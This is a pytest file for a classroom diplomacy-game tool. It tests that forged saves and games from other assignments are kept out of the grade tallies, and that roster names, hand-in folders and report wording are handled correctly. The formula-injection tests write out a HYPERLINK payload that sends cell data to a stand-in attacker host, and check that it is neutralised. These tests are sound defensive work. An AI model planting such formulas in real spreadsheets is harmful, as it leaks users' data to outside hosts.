"""What a QA pass found in the teacher's tools: games of another assignment counted with the
class, forged saves reported as results, formulas in the CSV, a strategy's memo quoted as the
student's, hand-ins in a subfolder or under another extension missed, wording that compared
equal things, and roster names cut or merged wrongly."""

from __future__ import annotations

import csv
import io
import json
import shutil
from pathlib import Path

import pytest

from diplomacy_game.classroom.assign import read_students
from diplomacy_game.classroom.discussion import questions
from diplomacy_game.classroom.report import counterfactual_text
from diplomacy_game.cli import main
from diplomacy_game.saves import store
from diplomacy_game.saves.spreadsheet import cell

ROSTER = ("Amira Haddad", "Ben", "Chloe")


def _assign(tmp: Path, out: str, seed: int, *extra: str, scenario: str = "review-sprint") -> Path:
    roster = tmp / "roster.txt"
    roster.write_text("\n".join(ROSTER) + "\n", encoding="utf-8")
    folder = tmp / out
    argv = ["assign", "--scenario", scenario, "--seed", str(seed), "--class", "Civics 11B"]
    assert main([*argv, "--students", str(roster), "-o", str(folder), *extra]) == 0
    return folder


def _play(source: Path, target: Path, policy: str, *extra: str) -> None:
    args = ["play", "--load", str(source), "--policy", policy, "--save", str(target), "--json"]
    assert main([*args, *extra]) == 0


@pytest.fixture(scope="module")
def world(tmp_path_factory) -> Path:
    """A class of three honest games, and beside it the games QA slipped in."""
    tmp = tmp_path_factory.mktemp("qa")
    handout = _assign(tmp, "handout", 2026, "--memo-required")
    honest = tmp / "honest"
    for name, policy in zip(ROSTER, ("steady", "hardline", "appease"), strict=True):
        stem = name.replace(" ", "-")
        _play(handout / f"Civics-11B-{stem}.json", honest / f"{stem}.json", policy)
    # another seed of the same class, another class's scenario, and no assignment at all
    other_seed = _assign(tmp, "handout7", 7)
    foreign = tmp / "foreign"
    _play(other_seed / "Civics-11B-Chloe.json", foreign / "Dana.json", "advisor")
    roster = tmp / "one.txt"
    roster.write_text("Eve\n", encoding="utf-8")
    assert main(["assign", "--scenario", "second-visit", "--seed", "2026", "--class", "Other",
                 "--students", str(roster), "-o", str(tmp / "other")]) == 0  # fmt: skip
    _play(tmp / "other" / "Other-Eve.json", foreign / "Eve.json", "advisor")
    assert main(["play", "--scenario", "review-sprint", "--seed", "99", "--policy", "advisor",
                 "--save", str(foreign / "Finn.json"), "--json"]) == 0  # fmt: skip
    # Ben's grade edited and the file sealed again, as a student with the source could
    doc = json.loads((honest / "Ben.json").read_text(encoding="utf-8"))
    doc["state"]["ending"]["grade"] = "A"
    (tmp / "Ben-final.json").write_bytes(store.seal(doc))
    return tmp


def _folder(tmp_path: Path, world: Path, *files: Path) -> Path:
    folder = tmp_path / "in"
    folder.mkdir()
    for f in files:
        shutil.copy(f, folder / f.name)
    return folder


def _mixed(tmp_path: Path, world: Path) -> Path:
    honest, foreign = world / "honest", world / "foreign"
    return _folder(tmp_path, world, *sorted(honest.glob("*.json")), *sorted(foreign.glob("*.json")))


# --- 1. another seed, scenario or class is not the class's game -------------------------------


def test_verify_names_every_game_not_of_the_class_assignment(world, tmp_path, capsys):
    folder = _mixed(tmp_path, world)
    code = main(["verify", str(folder)])
    lines = capsys.readouterr().out.splitlines()
    assert code == 1
    # "FAIL .../Dana.json (Chloe): ...": a file not named after its student is followed by whose
    head = [line.split(": ")[0].split(" ", 1)[1].strip() for line in lines[:6]]
    by_file = {Path(h.split(" (")[0]).name: line for h, line in zip(head, lines, strict=False)}
    assert "Dana.json (Chloe): not the class's assignment" in by_file["Dana.json"]
    for honest in ("Amira-Haddad.json", "Ben.json", "Chloe.json"):
        assert by_file[honest].startswith("OK ")
    assert by_file["Dana.json"].startswith("FAIL") and "class seed 7" in by_file["Dana.json"]
    assert by_file["Eve.json"].startswith("FAIL") and "'Other'" in by_file["Eve.json"]
    assert (
        by_file["Finn.json"].startswith("FAIL") and "no assignment record" in by_file["Finn.json"]
    )
    assert any("the class's assignment: 'Civics 11B': review-sprint, class seed 2026" in line
               for line in lines)  # fmt: skip
    assert lines[-1].startswith("3 consistent, 0 not, 3 consistent but not the class's")


def test_class_summary_keeps_other_assignments_out_of_the_tallies(world, tmp_path, capsys):
    folder = _mixed(tmp_path, world)
    table = tmp_path / "class.csv"
    assert main(["class-summary", str(folder), "-o", str(table)]) == 0
    out = capsys.readouterr().out
    rows = {r["file"]: r for r in csv.DictReader(io.StringIO(table.read_text(encoding="utf-8")))}
    assigned = {Path(f).name: r["assigned"] for f, r in rows.items()}
    assert assigned["Ben.json"] == "yes" and assigned["Eve.json"].startswith("no: assigned to")
    # Dana.json holds Chloe's other game (her seed-7 file): hers is the honest one, Dana.json
    # named as what it holds (not a second game Chloe handed in: Dana may have handed it in)
    chloe = next(r for f, r in rows.items() if f.endswith("Chloe.json"))
    assert (
        "Dana.json holds a game of Chloe's (the assignment record in it names Chloe), but its"
        " name is not Chloe's (not the class's assignment)" in chloe["note"]
    )
    assert "**Chloe** (Dana.json): class seed 7" in out
    assert "Not the class's assignment (not counted" in out and "**Finn** (Finn.json)" in out
    grades = out.split("- Grades: ")[1].split(".")[0].replace(",", "")
    tallied = sum(int(n) for n in grades.split()[1::2])
    assert tallied == 3  # the three honest games, not six
    top = out.split("- Highest outcome score: ")[1].split(" (")[0]
    assert top in ROSTER  # never the foreign game


def test_a_class_with_a_seed_each_is_not_flagged(world, tmp_path, capsys):
    handout = _assign(tmp_path, "own", 11, "--seed-per-student")
    folder = tmp_path / "own-in"
    for name in ROSTER:
        stem = name.replace(" ", "-")
        _play(
            handout / f"Civics-11B-{stem}.json", folder / f"{stem}.json", "steady", "--turns", "2"
        )
    assert main(["verify", str(folder)]) == 0
    out = capsys.readouterr().out
    assert "not the class's assignment" not in out and out.splitlines()[-1] == "3 consistent, 0 not"


def test_the_class_report_ranks_only_the_class_games(world, tmp_path, capsys):
    folder = _mixed(tmp_path, world)
    out = tmp_path / "reports"
    assert main(["report", str(folder), "-o", str(out), "--games", "0"]) == 0
    page = (out / "index.html").read_text(encoding="utf-8")
    ranked, apart = page.split("<h2 id='not-counted'>")
    assert "Finn" not in ranked and "Dana" not in ranked and "Eve" not in ranked
    assert "Finn" in apart and "class seed 7" in apart and "no assignment record" in apart
    assert "3 games" in ranked
    # every student's page links back to the class page, counted or not
    pages = [p for p in out.glob("*.html") if p.name != "index.html"]
    assert len(pages) == 5  # Chloe handed in two games: one page, the other named
    assert all("&larr; The class</a>" in p.read_text(encoding="utf-8") for p in pages)


# --- 2 and 3. a forged save is never the student's result --------------------------------------


def test_report_of_a_forged_save_is_marked_not_verified(world, tmp_path, capsys):
    code = main(["report", str(world / "Ben-final.json"), "--games", "0"])
    out, err = capsys.readouterr()
    assert code == 1 and "failed verification" in err and "'ending.grade'" in err
    assert "NOT VERIFIED" in out.split("## Outcome")[0]
    assert "grade **A**" not in out and "The file claims" in out


def test_the_class_report_prefers_the_honest_save_and_names_the_forged_one(world, tmp_path):
    folder = _folder(tmp_path, world, world / "honest" / "Ben.json", world / "Ben-final.json")
    out = tmp_path / "reports"
    assert main(["report", str(folder), "-o", str(out), "--games", "0"]) == 0
    page = (out / "index.html").read_text(encoding="utf-8")
    ranked, apart = page.split("<h2 id='not-counted'>")
    assert "Grades: F 1" in ranked and "A 1" not in ranked
    assert "Ben-final.json" in apart and "failed verification" in apart
    assert "NOT VERIFIED" not in (out / "Ben.html").read_text(encoding="utf-8")


def test_class_summary_shows_a_failed_second_game(world, tmp_path, capsys):
    folder = _folder(tmp_path, world, world / "honest" / "Ben.json", world / "Ben-final.json")
    table = tmp_path / "class.csv"
    assert main(["class-summary", str(folder), "-o", str(table)]) == 0
    out = capsys.readouterr().out
    assert "Verified: 1 of 2 games." in out and "**Ben** (Ben-final.json)" in out
    row = next(csv.DictReader(io.StringIO(table.read_text(encoding="utf-8"))))
    assert (
        row["file"].endswith("Ben.json") and "Ben-final.json (FAILED verification)" in row["note"]
    )


def test_a_forged_grade_alone_is_never_counted(world, tmp_path, capsys):
    folder = _folder(tmp_path, world, world / "Ben-final.json")
    table = tmp_path / "class.csv"
    assert main(["class-summary", str(folder), "-o", str(table)]) == 0
    out = capsys.readouterr().out
    assert "- Grades:" not in out and "Verified: 0 of 1 game." in out
    row = next(csv.DictReader(io.StringIO(table.read_text(encoding="utf-8"))))
    assert row["grade"] == "" and "the file claims grade A" in row["note"]
    # none of the file's figures stand in the row as the game's (approval was the forger's)
    assert all(row[k] == "" for k in ("ending", "score", "approval", "gdp_gap_pct")), row


def test_the_grade_book_tells_a_game_of_another_assignment(world, tmp_path, capsys):
    folder = _folder(tmp_path, world, world / "honest" / "Amira-Haddad.json",
                     world / "honest" / "Ben.json", world / "foreign" / "Dana.json")  # fmt: skip
    turns = tmp_path / "turns.csv"
    assert main(["class-summary", str(folder), "--turns", str(turns)]) == 0
    rows = list(csv.DictReader(io.StringIO(turns.read_text(encoding="utf-8"))))
    seen = {(r["file"].rsplit("/", 1)[-1], r["assigned"]) for r in rows}
    assert ("Dana.json", "no") in seen and ("Ben.json", "yes") in seen


# --- 4. no formula reaches a spreadsheet --------------------------------------------------------


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_formula_in_a_cell_is_written_as_text(start):
    assert cell(f'{start}HYPERLINK("http://evil.example/?"&A1,"click")').startswith("'")
    assert cell(-1.5) == -1.5 and cell("-1.5") == "-1.5" and cell("Keep calm") == "Keep calm"


def test_a_memo_formula_is_neutralised_in_the_grade_book(world, tmp_path, capsys):
    moves = tmp_path / "moves.jsonl"
    memo = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    moves.write_text(json.dumps({"turn": 1, "actions": [], "memo": memo}) + "\n", encoding="utf-8")
    folder = tmp_path / "in"
    source = world / "handout" / "Civics-11B-Ben.json"
    assert main(["play", "--load", str(source), "--decisions", str(moves), "--save",
                 str(folder / "Ben.json"), "--json"]) == 0  # fmt: skip
    turns = tmp_path / "turns.csv"
    assert (
        main(["class-summary", str(folder), "-o", str(tmp_path / "c.csv"), "--turns", str(turns)])
        == 0
    )
    text = turns.read_text(encoding="utf-8")
    row = next(csv.DictReader(io.StringIO(text)))
    assert row["memo"] == "'" + memo and ",=HYPERLINK" not in text


# --- 5. a strategy's memo is never quoted as the student's -------------------------------------


def test_the_report_never_quotes_a_strategy_memo_as_the_students(ruleset):
    from diplomacy_game.engine.game import new_game
    from diplomacy_game.sim.headless import play_through
    from diplomacy_game.sim.policies import get_policy

    state = play_through(ruleset, new_game(ruleset, 3), policy=get_policy("appease"), max_turns=3)
    state.decisions[0] = {**state.decisions[0], "memo": "[appease] Concede", "memo_by": "strategy"}
    cf = {"turn": 1, "what": "x", "ending": "E", "grade": "C", "score": 50.0,
          "mine": {"ending": "E", "grade": "D", "score": 40.0}}  # fmt: skip
    asked = questions(ruleset, state, cf, [])
    assert not any("Your memo" in q for q in asked)
    state.decisions[0] = {**state.decisions[0], "memo": "Buy time.", "memo_by": "person"}
    asked = questions(ruleset, state, cf, [])
    assert any('Your memo on turn 1 said: "Buy time." Knowing' in q for q in asked), asked
    # an ending's title inside a sentence reads as words, not as a heading
    cf = {
        **cf,
        "ending": "A US withdrawal notice",
        "mine": {**cf["mine"], "ending": "Muddling through"},
    }
    asked = questions(ruleset, state, cf, [])
    assert any("ended in a US withdrawal notice instead of muddling through" in q for q in asked)


# --- 6 and 7. hand-ins in a subfolder, under another extension, or set aside --------------------


def test_a_hand_in_folder_of_one_class_subfolder_is_read_through_it(world, tmp_path, capsys):
    top = tmp_path / "handed-in"
    (top / "Civics-11B").mkdir(parents=True)
    shutil.copy(world / "honest" / "Ben.json", top / "Civics-11B" / "Ben.json")
    for argv in (["verify", str(top)], ["class-summary", str(top)]):
        assert main(argv) == 0
        printed = capsys.readouterr()
        # class-summary without -o: the CSV on stdout, its overview on stderr
        out = printed.out if argv[0] == "verify" else printed.err
        assert f"{top} holds no saves itself: read its subfolder {top / 'Civics-11B'}" in out
    # the class page says it too, as a note on the files read: nothing was set aside
    assert main(["report", str(top), "-o", str(tmp_path / "r"), "--games", "0"]) == 0
    page = (tmp_path / "r" / "index.html").read_text(encoding="utf-8")
    notes = page.split("<h2>About the files read</h2>")[1]
    assert "holds no saves itself: read its subfolder" in notes


def test_several_class_subfolders_get_one_message_from_every_command(world, tmp_path, capsys):
    top = tmp_path / "handed-in"
    for name in ("A", "B"):
        (top / name).mkdir(parents=True)
        shutil.copy(world / "honest" / "Ben.json", top / name / "Ben.json")
    said = []
    for command in ("verify", "class-summary", "report"):
        extra = ["-o", str(tmp_path / "r")] if command == "report" else []
        assert main([command, str(top), *extra]) == 1
        err = capsys.readouterr().err
        assert f"its subfolders do: {top / 'A'} (1 save), {top / 'B'} (1 save)" in err
        said.append(err.split(" holds no saves")[1].split("e.g.")[0])
    assert len(set(said)) == 1


def test_files_not_read_are_named_and_json_in_capitals_is_a_save(world, tmp_path, capsys):
    folder = tmp_path / "in"
    folder.mkdir()
    shutil.copy(world / "honest" / "Ben.json", folder / "Ben.JSON")
    (folder / "notes.txt").write_text("hi", encoding="utf-8")
    shutil.copy(world / "honest" / "Chloe.json", folder / "Zed.damaged-20260101T000000.json")
    assert main(["verify", str(folder)]) == 0
    out = capsys.readouterr().out
    assert out.startswith(f"OK   {folder / 'Ben.JSON'}")
    assert "notes.txt: not read: not a save file" in out
    assert (
        "Zed.damaged-20260101T000000.json: not read: Zed.json, set aside by the game as damaged"
        " or edited when it was loaded" in out
    )
    assert main(["class-summary", str(folder)]) == 0
    printed = capsys.readouterr()
    assert "notes.txt: not read" in printed.err  # the overview, apart from the CSV
    assert printed.out.startswith("file,student,") and "not read" not in printed.out


def test_play_says_where_a_damaged_save_went(world, tmp_path, capsys):
    """In the saves folder a damaged save is set aside, and play says where it went; a save
    from elsewhere (a folder of hand-ins) is left as it is, for 'verify' to find."""
    path = tmp_path / "Zed.json"
    data = (world / "handout" / "Civics-11B-Ben.json").read_bytes()
    edited = data.replace(b'"turn": 0', b'"turn": 0 ', 1)
    path.write_bytes(edited)
    assert main(["play", "--load", str(path), "--policy", "passive"]) == 1
    err = capsys.readouterr().err
    assert "checksum" in err and "renamed" not in err
    assert path.read_bytes() == edited and not list(tmp_path.glob("*.damaged-*"))
    assert (
        main(["--saves-dir", str(tmp_path), "play", "--load", str(path), "--policy", "passive"])
        == 1
    )
    err = capsys.readouterr().err
    moved = next(tmp_path.glob("Zed.damaged-*.json"))
    assert f"Zed.json was renamed {moved}" in err and "Nothing was deleted" in err


# --- 8. wording --------------------------------------------------------------------------------


def test_a_what_if_with_the_same_result_says_so():
    cf = {"turn": 2, "what": "Lobby Congress", "ending": "Annual-review limbo", "grade": "D",
          "score": 54.2, "mine": {"ending": "Annual-review limbo", "grade": "D", "score": 54.9}}  # fmt: skip
    text = counterfactual_text(cf, lambda t: t, lambda t: t)
    assert "instead of" not in text and "the same outcome score" in text


def test_the_difference_is_that_of_the_numbers_shown():
    cf = {"turn": 2, "what": "x", "ending": "Renewal", "grade": "C", "score": 68.7,
          "mine": {"ending": "The government falls", "grade": "F", "score": 0.0}}  # fmt: skip
    text = counterfactual_text(cf, lambda t: t, lambda t: t)
    assert "(C, 68/100) instead of The government falls (F, 0/100): 68 points more" in text


def test_a_missing_folder_is_called_a_folder_and_a_path_is_named_once(tmp_path, capsys):
    assert main(["verify", str(tmp_path / "nosuch")]) == 1
    assert f"{tmp_path / 'nosuch'}: no such folder" in capsys.readouterr().err
    folder = tmp_path / "bad"
    folder.mkdir()
    (folder / "dangling.json").symlink_to(tmp_path / "nowhere.json")
    main(["report", str(folder), "-o", str(tmp_path / "r")])
    err = capsys.readouterr().err
    assert err.count("dangling.json") == 1


def test_an_empty_decisions_file_does_not_claim_turns_were_played(tmp_path, capsys):
    empty = tmp_path / "empty.jsonl"
    empty.write_text("", encoding="utf-8")
    assert (
        main(["play", "--scenario", "review-sprint", "--decisions", str(empty), "--turns", "1"])
        == 0
    )
    out = capsys.readouterr().out
    assert "as asked" not in out and "0 turns played" in out


# --- 9. roster names ---------------------------------------------------------------------------


def test_last_comma_first_is_one_name_in_a_plain_roster(tmp_path):
    roster = tmp_path / "roster.txt"
    roster.write_text("Smith, John\nSmith, Jane\n", encoding="utf-8")
    assert read_students(roster) == ["Smith, John", "Smith, Jane"]


def test_a_spreadsheet_roster_explains_why_names_collide(tmp_path):
    roster = tmp_path / "roster.csv"
    roster.write_text("name,email\nSmith, John,a@x\nSmith, Jane,b@x\n", encoding="utf-8")
    with pytest.raises(ValueError, match="a comma ends it") as caught:
        read_students(roster)
    assert "lines 2, 3" in str(caught.value)
    roster.write_text('name,email\n"Smith, John",a@x\n"Smith, Jane",b@x\n', encoding="utf-8")
    assert read_students(roster) == ["Smith, John", "Smith, Jane"]


def test_names_differing_in_case_are_one_student(tmp_path, capsys):
    roster = tmp_path / "roster.txt"
    roster.write_text("Ben O'Connor\nben o'connor\n李伟\n王芳\n", encoding="utf-8")
    out = tmp_path / "a"
    argv = ["assign", "--scenario", "review-sprint", "--seed", "1", "--class", "Civics 11B"]
    assert main([*argv, "--students", str(roster), "-o", str(out)]) == 0
    said = capsys.readouterr().out
    assert "'ben o'connor' is the same student as 'Ben O'Connor'" in said
    files = sorted(p.name for p in out.iterdir())
    assert len(files) == 3 and "Civics-11B.json" not in files
    assert "Civics-11B-Ben-O-Connor.json" in files
    assert all(f.startswith("Civics-11B-student-") for f in files if "Ben" not in f)


def test_the_teacher_can_name_the_assignment(world, tmp_path, capsys):
    """Two games, one of the class's assignment and one of another seed: the hand-ins alone
    cannot tell which is the class's (an even split sets nothing apart); --assignment names it,
    and verify, class-summary and report then set the other game apart."""
    folder = tmp_path / "two"
    folder.mkdir()
    shutil.copy(world / "honest" / "Amira-Haddad.json", folder / "Amira-Haddad.json")
    shutil.copy(world / "foreign" / "Dana.json", folder / "Dana.json")
    assert main(["verify", str(folder)]) == 0  # an even split: nothing set apart
    assert "none is set apart" in capsys.readouterr().out
    named = ["--assignment", str(world / "handout")]
    assert main(["verify", str(folder), *named, "--json"]) == 1
    said = [d for d in json.loads(capsys.readouterr().out) if d["kind"] == "note"]
    assert said and said[-1]["message"].startswith("the class's assignment: 'Civics 11B'")
    assert main(["verify", str(folder), *named]) == 1
    out = capsys.readouterr().out
    assert "FAIL" in out and "Dana.json (Chloe): not the class's assignment: class seed 7" in out
    assert "named with --assignment; 1 of 2 games has it" in out
    assert main(["class-summary", str(folder), *named, "-o", str(tmp_path / "c.csv")]) == 0
    rows = {r["student"]: r for r in csv.DictReader(io.StringIO((tmp_path / "c.csv").read_text()))}
    assert rows["Amira Haddad"]["assigned"] == "yes" and rows["Chloe"]["assigned"].startswith("no:")
    # the class list comes with the assignment: who handed in nothing is named
    assert "- Nothing handed in: Ben." in capsys.readouterr().out
    capsys.readouterr()
    assert main(["report", str(folder / "Dana.json"), *named, "--games", "0",
                 "-o", str(tmp_path / "d.md")]) == 1  # fmt: skip
    assert "not a game of the assignment named" in capsys.readouterr().err
    # a path that holds no assignment is refused with what to give instead
    assert main(["verify", str(folder), "--assignment", str(tmp_path / "nowhere")]) == 2
    assert "no such assignment file or folder" in capsys.readouterr().err
